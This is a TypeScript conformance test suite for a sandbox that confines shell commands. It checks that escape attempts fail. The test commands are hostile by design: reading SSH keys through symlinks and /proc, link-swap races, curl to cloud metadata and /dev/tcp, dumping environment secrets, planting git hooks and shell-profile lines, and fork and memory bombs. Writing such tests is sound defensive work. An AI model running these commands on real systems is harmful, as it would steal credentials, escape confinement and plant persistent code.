import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { existsSync, linkSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import type { AddressInfo, Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CommandEnd, CommandLimits, Confinement, SandboxRefusal } from "@holdfast/runtime/ports/processes";

/** Commands of one session, confined by the implementation under test. */
export interface ConfinedPlace {
  /** Writable to commands, below a user's home. */
  readonly workspace: string;
  /** The user's home: in sight, but not writable. It holds `.ssh/id` with the text of `hiddenText`, hidden. */
  readonly userHome: string;
  /** Names that the sandbox's resolver knows, and how often each was asked for; any other is unknown. */
  readonly names: Map<string, readonly string[] | ((asked: number) => readonly string[])>;
  run(command: string, confinement?: Partial<Confinement>): Promise<ConfinedResult>;
  close(): Promise<void>;
}

interface ConfinedResult {
  readonly end: CommandEnd;
  readonly text: string;
  readonly refused: readonly SandboxRefusal[];
}

export interface PlaceOptions {
  /** What commands inherit from, if they inherit anything. */
  readonly environment: Readonly<Record<string, string>>;
  readonly limits: CommandLimits;
  readonly tmpBytes: number;
}

const megabyte = 1024 * 1024;
/** Stands for what a user keeps in a hidden file, and for any secret in the environment of whoever starts a command. */
export const hiddenText = "HIDDEN-9c2d";
const canary = "CANARY-4f1e";
const keys = ["ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GH_TOKEN", "AWS_SECRET_ACCESS_KEY", "FOO_TOKEN"];
const outlets = {
  SSH_AUTH_SOCK: "/run/agent.sock",
  DOCKER_HOST: "unix:///run/docker.sock",
  DBUS_SESSION_BUS_ADDRESS: "unix:path=/run/bus",
};

/** What every sandbox of commands promises (docs/security.md). `open` makes one with these options. */
export function sandboxConformance(name: string, open: (options: PlaceOptions) => Promise<ConfinedPlace>): void {
  describe(`${name} keeps a command`, () => {
    let place: ConfinedPlace;
    let http: Server;
    let port = 0;
    const servers: Server[] = [];
    const reached: string[] = [];
    const node = `'${process.execPath}'`;
    const git = (folder: string, ...args: string[]): string =>
      execFileSync("git", ["-C", folder, "-c", "user.name=n", "-c", "user.email=e@example.org", ...args], { encoding: "utf8" });
    const listen = async (at: string): Promise<void> => {
      const server = createServer((socket) => socket.end("REACHED"));
      servers.push(server);
      await new Promise<void>((done) => server.listen(at, done));
    };
    const at = (...names: string[]): string => join(place.workspace, ...names);

    beforeAll(async () => {
      place = await open({
        environment: {
          PATH: process.env["PATH"] ?? "",
          LANG: "C.UTF-8",
          ...outlets,
          ...Object.fromEntries(keys.map((key) => [key, canary])),
        },
        limits: { processes: 60, memoryBytes: 400 * megabyte, freeBytes: 0 },
        tmpBytes: 8 * megabyte,
      });
      git(place.workspace, "init", "-q");
      git(place.workspace, "commit", "-q", "--allow-empty", "-m", "one");
      http = createHttpServer((request, response) => {
        reached.push(`${request.headers.host} ${request.url}`);
        response.end("SERVED");
      });
      await new Promise<void>((done) => http.listen(0, "127.0.0.1", done));
      port = (http.address() as AddressInfo).port;
    });
    afterAll(async () => {
      for (const server of [...servers, http]) server.close();
      await place.close();
    });

    it("from writing outside (B12)", async () => {
      writeFileSync(join(place.userHome, "kept"), "before");
      const targets = [place.userHome, "/etc", "/usr", "/", "/var/tmp", "/dev", "/proc/sys/kernel"];
      await place.run(`for d in ${targets.join(" ")}; do touch $d/written; done; echo after >${place.userHome}/kept; echo in >in.txt`);
      expect(targets.filter((target) => existsSync(join(target, "written")))).toEqual([]);
      expect([readFileSync(join(place.userHome, "kept"), "utf8"), readFileSync(at("in.txt"), "utf8")]).toEqual(["before", "in\n"]);
    });

    it("from hidden places, by whatever way to them (B16)", async () => {
      symlinkSync(join(place.userHome, ".ssh"), at("keys"));
      const { text } = await place.run(
        `cat ${place.userHome}/.ssh/id keys/id ./keys/../keys/id /proc/self/root${place.userHome}/.ssh/id /proc/1/root${place.userHome}/.ssh/id; cp -r ${place.userHome} /tmp/copy 2>/dev/null; grep -rs ${hiddenText} /tmp/copy ${place.userHome} /proc/1/cwd; ls ${place.userHome}/.ssh/; true`,
      );
      expect(text).not.toContain(hiddenText);
      expect(text).not.toMatch(/^id$/m);
      rmSync(at("keys"));
    });

    it("from what links lead to: symbolic, hard, and swapped while it runs (B12)", async () => {
      const victim = join(place.userHome, "victim");
      writeFileSync(victim, "before");
      symlinkSync(victim, at("link"));
      const { text } = await place.run(
        `echo x >link; ln ${victim} hard && echo x >hard; ln -s / root; echo x >root${place.userHome}/victim; mkdir real; (for i in $(seq 40); do rm -rf swap; ln -s ${place.userHome} swap; rm -f swap; mkdir swap; done) & for i in $(seq 400); do echo x >swap/victim; done 2>/dev/null; wait; rm -rf swap root; true`,
      );
      expect(readFileSync(victim, "utf8"), text).toBe("before");
      for (const entry of ["link", "hard", "real"]) rmSync(at(entry), { recursive: true, force: true });
    });

    it("that was given a hard link to a file outside from the other file, where the file system shares the mount", async () => {
      const victim = join(place.userHome, "twin");
      writeFileSync(victim, "before");
      linkSync(victim, at("twin"));
      // The name lies in the workspace, and is a name of the same file: this can't be told apart. It is named in docs/security.md.
      expect((await place.run("cat twin")).text).toBe("before");
      rmSync(at("twin"));
    });

    it("from every network: an address, a name, DNS, loopback, metadata, IPv6, datagrams (B04)", async () => {
      reached.length = 0;
      const heard: string[] = [];
      const datagrams = createSocket("udp4", (bytes) => heard.push(bytes.toString())).on("message", (bytes) =>
        heard.push(bytes.toString()),
      );
      await new Promise<void>((done) => datagrams.bind(0, "127.0.0.1", done));
      const udp = datagrams.address().port;
      const { text } = await place.run(
        `curl -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/ http://[::1]:${port}/ http://[::ffff:127.0.0.1]:${port}/ http://169.254.169.254/ http://1.1.1.1/ http://example.com/ 2>&1; env -u HTTPS_PROXY -u HTTP_PROXY curl -sS -m 5 http://127.0.0.1:${port}/ 2>&1; (exec 9<>/dev/tcp/127.0.0.1/${port}) && echo OPEN; echo leak >/dev/udp/127.0.0.1/${udp}; getent hosts example.com; grep -c : /proc/net/dev`,
      );
      expect(text).not.toMatch(/SERVED|OPEN/);
      expect(text).toMatch(/\n1\n$/);
      expect([reached, heard]).toEqual([[], []]);
      datagrams.close();
    });

    it("to the hosts that it may reach, whatever way it asks: HTTP, a tunnel, SOCKS; by the name that was checked (B03)", async () => {
      reached.length = 0;
      place.names.set("good.test", ["127.0.0.1"]).set("bad.test", ["127.0.0.1"]);
      // A name that leads elsewhere at its second look-up: what was checked is what is connected to.
      place.names.set("rebound.test", (asked) => (asked === 0 ? ["192.0.2.1"] : ["127.0.0.1"]));
      const list = [`good.test:${port}`, `127.0.0.1:${port}`];
      const curl = (args: string) => `curl -s -m 5 ${args} 2>&1; echo " $?"`;
      const { text } = await place.run(
        [
          curl(`http://good.test:${port}/plain`),
          curl(`-p http://good.test:${port}/tunnel`),
          curl(`-x "$SOCKS_PROXY" http://good.test:${port}/socks`),
          `${node} -e 'fetch("http://good.test:${port}/node").then((r) => r.text()).then(console.log)'`,
        ].join("\n"),
        { network: list },
      );
      expect(text).toBe("SERVED 0\nSERVED 0\nSERVED 0\nSERVED\n");
      expect(reached.map((line) => line.split(" ")[1])).toEqual(["/plain", "/tunnel", "/socks", "/node"]);
      reached.length = 0;
      const bad = await place.run(
        [
          curl(`http://bad.test:${port}/?${canary}`),
          curl(`-p http://bad.test:${port}/`),
          curl(`-x "$SOCKS_PROXY" http://bad.test:${port}/`),
          curl(`-H 'Host: good.test' http://bad.test:${port}/`),
          curl(`http://BAD.test.:${port}/`),
          curl(`-x "\${HTTP_PROXY/holdfast:/holdfast:x}" http://good.test:${port}/nopass`),
          curl(`-x "\${SOCKS_PROXY/holdfast:/holdfast:x}" http://good.test:${port}/nopass`),
          curl(`http://rebound.test/`),
        ].join("\n"),
        { network: ["good.test", `127.0.0.1:${port}`, "rebound.test"] },
      );
      expect(reached).toEqual([]);
      expect(bad.text).not.toContain("SERVED");
      expect(bad.refused).toContainEqual({ kind: "host", host: "bad.test", port, reason: expect.any(String) });
    });

    it("with every host open still from loopback and metadata, unless they are named", async () => {
      reached.length = 0;
      place.names.set("inside.test", ["127.0.0.1"]).set("cloud.test", ["169.254.169.254"]);
      const get = `for u in http://inside.test:${port}/ http://cloud.test/ http://169.254.169.254/; do curl -s -m 5 $u; done; curl -s --noproxy '*' -m 5 http://127.0.0.1:${port}/`;
      expect((await place.run(get, { network: "all" })).text).not.toContain("SERVED");
      expect(reached).toEqual([]);
      expect((await place.run(`curl -s http://inside.test:${port}/`, { network: ["all", `127.0.0.1:${port}`] })).text).toBe("SERVED");
    });

    it("from sockets outside, by path and by abstract name (B01)", async () => {
      const abstract = `holdfast-${process.pid}-${name.length}`;
      for (const path of [join(place.userHome, "out.sock"), at("in.sock"), `\0${abstract}`]) await listen(path);
      const targets = [`UNIX-CONNECT:${place.userHome}/out.sock`, `UNIX-CONNECT:${at("in.sock")}`, `ABSTRACT-CONNECT:${abstract}`];
      const { text } = await place.run(
        `${targets.map((target) => `timeout 5 socat - ${target} </dev/null 2>&1`).join("; ")}; echo "[${Object.keys(outlets)
          .map((key) => `$${key}`)
          .join("")}]"; find /run -type s`,
      );
      expect(text).not.toContain("REACHED");
      expect(text).toMatch(/\[\]\n$/);
    });

    it("from the processes outside: it sees none, signals none, reads nothing of them", async () => {
      const { text } = await place.run(
        `kill -0 ${process.pid} && echo sig""nalled; kill -9 -1; cat /proc/${process.pid}/environ /proc/1/environ; ls /proc | grep -c '^[0-9]'`,
      );
      expect(text).not.toMatch(/signalled|CANARY/);
      expect(Number(/^(\d+)$/m.exec(text)?.[1] ?? 0)).toBeLessThan(12);
    });

    it("from what whoever started it holds: descriptors, environment, arguments (B07)", async () => {
      const { text, end } = await place.run(
        `env; cat /proc/self/environ /proc/1/environ | tr '\\0' '\\n'; ls /proc/self/fd | wc -l; cat /proc/1/cmdline; echo "$HOME|$LANG|\${PATH:0:1}"`,
      );
      expect(end).toEqual({ type: "exited", exitCode: 0 });
      expect(text).not.toContain(canary);
      expect(text).toMatch(/^[345]$/m);
      expect(text).toMatch(/\|C\.UTF-8\|\/\n$/);
    });

    it("from leaving anything in /tmp of the machine, or finding it there", async () => {
      const mark = join("/tmp", `holdfast-outside-${process.pid}`);
      writeFileSync(mark, "OUTSIDE");
      const { text } = await place.run(
        `cat ${mark}; touch /tmp/holdfast-inside /var/tmp/holdfast-inside /dev/shm/holdfast-inside; ls /tmp`,
      );
      rmSync(mark);
      expect(text).not.toContain("OUTSIDE");
      for (const folder of ["/tmp", "/var/tmp", "/dev/shm"]) expect(existsSync(join(folder, "holdfast-inside"))).toBe(false);
    });

    it("from what would run later outside: hooks, configuration, tasks, whether they are there or not (B08)", async () => {
      mkdirSync(at(".vscode"), { recursive: true });
      writeFileSync(at(".vscode/tasks.json"), "{}");
      const before = readFileSync(at(".git/config"), "utf8");
      const { text } = await place.run(`
        echo evil >.git/hooks/pre-commit; git config core.hooksPath h; git config core.fsmonitor ./x; echo '[core]' >>.git/config
        mkdir h; echo evil >h/pre-commit; mv h .git/hooks; ln -sfn $PWD/h .git/hooks; mv .git g; echo evil >.git/commondir
        echo evil >.vscode/tasks.json; mv .vscode v; rm -rf .vscode
        echo evil >.envrc; mkdir .idea && echo evil >.idea/workspace.xml; mkdir made && mv made .husky; ln -s /tmp .claude; echo evil >.pre-commit-config.yaml
        mkdir -p .agents/skills/a .hg .jj/repo .config .pi; for each in .agents/skills/a/SKILL.md .hg/hgrc .jj/repo/config.toml mise.toml .config/mise.toml .gdbinit .lldbinit .vimrc .pi/settings.json .aider.conf.yml lefthook.yaml; do echo evil >$each; done
        mkdir -p .holdfast && echo evil >.holdfast/config.toml; echo evil >>~/.bashrc; echo evil >>~/.profile`);
      expect([readFileSync(at(".git/config"), "utf8"), readFileSync(at(".vscode/tasks.json"), "utf8")]).toEqual([before, "{}"]);
      const planted = [
        ".git/hooks/pre-commit",
        ".git/commondir",
        ".envrc",
        ".idea",
        ".husky",
        ".claude",
        ".pre-commit-config.yaml",
        ".holdfast",
        ".agents",
        ".hg/hgrc",
        ".jj/repo/config.toml",
        "mise.toml",
        ".config/mise.toml",
        ".gdbinit",
        ".lldbinit",
        ".vimrc",
        ".pi",
        ".aider.conf.yml",
        "lefthook.yaml",
      ];
      const left = [...planted.map((each) => at(each)), join(place.userHome, ".bashrc"), join(place.userHome, ".profile")];
      expect(left.filter((path) => lstatSync(path, { throwIfNoEntry: false }) !== undefined)).toEqual([]);
      expect(text).toContain("out of the workspace");
    });

    it("in a linked work tree and a submodule able to commit, and unable to touch what git runs (B13)", async () => {
      const tree = join(place.userHome, "tree");
      git(place.workspace, "worktree", "add", "-q", tree);
      const inTree = { roots: [tree] };
      const commit = "git -c user.name=n -c user.email=e@example.org commit -q";
      const made = await place.run(
        `cd ${tree} && echo b >b && git add b && ${commit} -m two && git log --format=%s -1; echo evil >${at(".git/hooks/post-commit")}; git config core.pager evil; true`,
        inTree,
      );
      expect(made.text).toMatch(/^two\n/);
      const inner = at("inner");
      git(place.workspace, "init", "-q", inner);
      git(inner, "commit", "-q", "--allow-empty", "-m", "first");
      git(place.workspace, "-c", "protocol.file.allow=always", "submodule", "add", "-q", inner, "sub");
      git(place.workspace, "commit", "-qm", "sub");
      await place.run(
        `cd sub && ${commit} --allow-empty -m third; echo evil >../.git/modules/sub/hooks/post-commit; git config core.fsmonitor evil; cd ../inner && git config core.fsmonitor evil; echo evil >.git/hooks/pre-commit; true`,
      );
      expect(git(at("sub"), "log", "--format=%s", "-1")).toBe("third\n");
      for (const folder of [place.workspace, at("sub"), inner]) expect(git(folder, "config", "--list", "--local")).not.toContain("evil");
      for (const path of [at(".git/hooks/post-commit"), at(".git/modules/sub/hooks/post-commit"), join(inner, ".git/hooks/pre-commit")])
        expect(existsSync(path)).toBe(false);
    });

    it("from calls to the kernel that no namespace holds back: typing at a terminal, keys, namespaces of its own", async () => {
      const { text } = await place.run(
        'unshare -U true; unshare -m true; grep -E \'^(CapEff|NoNewPrivs|Seccomp):\' /proc/self/status; /usr/bin/perl -e \'my $c = "x"; print ioctl(STDIN, 0x5412, $c) ? "typed" : "$!", "\\n"; print syscall(250, 0, -3, 0) == -1 ? "no keys\\n" : "keys\\n"\' || true',
      );
      expect(text).toMatch(/unshare: unshare failed: Operation not permitted\n(?:.*\n)*unshare: /);
      expect(text).toMatch(/CapEff:\t0+\nNoNewPrivs:\t1\nSeccomp:\t2\n/);
      expect(text).not.toMatch(/typed|^keys/m);
    });

    it("within its processes, memory and temporary space", async () => {
      const bomb = await place.run("for i in $(seq 200); do sleep 60 & done; wait");
      expect(bomb.end).toMatchObject({ type: "limited", limit: "processes" });
      const eater = await place.run(`${node} -e 'const all = []; setInterval(() => all.push(Buffer.alloc(20e6, 1)), 5)'`);
      expect(eater.end).toMatchObject({ type: "limited", limit: "memory" });
      const { text } = await place.run("head -c 20000000 /dev/zero >/tmp/big; stat -c %s /tmp/big; rm /tmp/big");
      expect(Number(/^(\d+)$/m.exec(text)?.[1])).toBeLessThanOrEqual(8 * megabyte);
    });
  });
}
